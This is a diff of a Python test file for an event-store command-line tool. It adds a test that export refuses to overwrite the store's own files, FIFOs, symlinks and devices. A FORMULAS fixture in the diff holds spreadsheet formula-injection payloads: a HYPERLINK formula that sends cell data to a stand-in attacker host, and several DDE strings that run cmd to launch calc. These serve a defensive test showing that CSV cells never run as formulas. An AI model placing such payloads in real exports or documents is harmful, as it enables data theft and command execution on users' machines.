@@ -145,7 +145,7 @@ def test_store_bench_measures_both_databases(postgres_server) -> None:
 
 
 FORMULAS = {
-    "outlet": "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
+    "outlet": '=HYPERLINK("https://evil.example/?"&A1,"open")',
     "notes": "+cmd|' /C calc'!A0",
     "actor": "-2+3+cmd|' /C calc'!A0",
     "place": "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -232,3 +232,62 @@ def test_csv_cells_never_run_as_formulas(store_url, tmp_path) -> None:
         cells = _cells(text)
         cells.pop("longitude")
         assert cells == FORMULAS, where
+
+
+def _stored(url: str) -> int:
+    lines = _run("events", "--db", url, "--format", "jsonl").stdout.splitlines()
+    return len(lines)
+
+
+@pytest.mark.reliability(
+    "export -o onto the store (x.db, x.db-wal, a hard link), a FIFO, a symlink, a device",
+    "refused with one line naming the path; nothing is replaced; files go via a temp + rename",
+)
+def test_export_never_writes_onto_the_store_or_a_special_file(store_url, tmp_path) -> None:
+    import os
+    import stat
+
+    _formula_store(store_url)
+    before = _stored(store_url)
+    targets: dict[Path, str] = {}
+    if not store_url.startswith("postgresql"):
+        db = Path(store_url)
+        link = tmp_path / "hardlink.db"
+        os.link(db, link)
+        relative = os.path.relpath(db)
+        for path in (db, Path(f"{db}-wal"), Path(f"{db}-journal"), link, Path(relative)):
+            targets[path] = "is a file of the store being exported"
+    fifo = tmp_path / "fifo"
+    os.mkfifo(fifo)
+    targets[fifo] = "is a FIFO, not a regular file"
+    real = tmp_path / "real.jsonl"
+    real.write_text("keep me\n")
+    symlink = tmp_path / "link.jsonl"
+    symlink.symlink_to(real)
+    targets[symlink] = "is a symbolic link, not a regular file"
+    device = tmp_path / "null"
+    try:
+        os.mknod(device, 0o666 | stat.S_IFCHR, os.makedev(1, 3))  # like /dev/null
+    except PermissionError:
+        pass  # not root: FIFOs and links still cover "not a regular file"
+    else:
+        targets[device] = "is a character device, not a regular file"
+    for target, problem in targets.items():
+        shown = os.lstat(target) if target.exists() or target.is_symlink() else None
+        result = _run("export", "--db", store_url, "--format", "jsonl", "-o", str(target))
+        assert result.exit_code == 1, (target, result.stderr)
+        (line,) = result.stderr.splitlines()
+        assert line.startswith(f"Error: {target}: {problem}"), line
+        assert "wrote" not in result.stderr
+        if shown is not None:  # the very same file (or node) is still there
+            after = os.lstat(target)
+            assert (after.st_ino, after.st_mode) == (shown.st_ino, shown.st_mode), target
+    assert real.read_text() == "keep me\n" and symlink.is_symlink()
+    assert _stored(store_url) == before
+    # A new path and an existing regular file are written whole, with no temporary left.
+    for out in (tmp_path / "new.jsonl", real):
+        result = _run("export", "--db", store_url, "--format", "jsonl", "-o", str(out))
+        assert result.exit_code == 0, result.stderr
+        assert len(out.read_text().splitlines()) == before
+    left = sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("."))
+    assert left == []
